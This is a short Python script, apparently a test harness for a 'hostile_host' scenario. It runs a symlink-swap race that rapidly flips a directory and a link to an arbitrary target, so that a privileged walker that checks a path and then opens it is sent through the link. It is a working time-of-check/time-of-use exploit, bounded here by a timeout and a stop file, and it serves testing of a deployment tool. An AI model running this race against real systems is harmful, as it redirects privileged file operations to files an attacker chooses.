#!/usr/bin/python3
"""THE ATTACKER'S RACE, for the hostile_host scenario only: swap a directory for a symlink.

Run as the runtime's service user inside its own data directory while site.yml walks it. Flips
DIR/swap between a real directory (holding one file) and a symbolic link to TARGET as fast as it can,
so that a walker that checks a path and then opens it by name can be sent through the link.
Bounded: it stops after SECONDS (default 300) or when DIR/.stop-swap appears, and prints its count.
usage: swap_race.py DIR TARGET [SECONDS]
"""
import os
import sys
import time

directory, target = sys.argv[1], sys.argv[2]
deadline = time.monotonic() + (float(sys.argv[3]) if len(sys.argv) > 3 else 300.0)
swap, real, link = (os.path.join(directory, name) for name in ("swap", "swap.real", "swap.link"))
os.makedirs(real, exist_ok=True)
with open(os.path.join(real, "weights.bin"), "wb") as handle:
    handle.write(b"\0" * 64)
if not os.path.lexists(link):
    os.symlink(target, link)
flips = 0
while time.monotonic() < deadline and not os.path.exists(os.path.join(directory, ".stop-swap")):
    # swap is the real directory, then the link, then back; never both at once.
    os.rename(real, swap)
    os.rename(swap, real)
    os.rename(link, swap)
    os.rename(swap, link)
    flips += 1
# Leave the real directory in place, the link out of the way.
print("flips=%d" % flips)
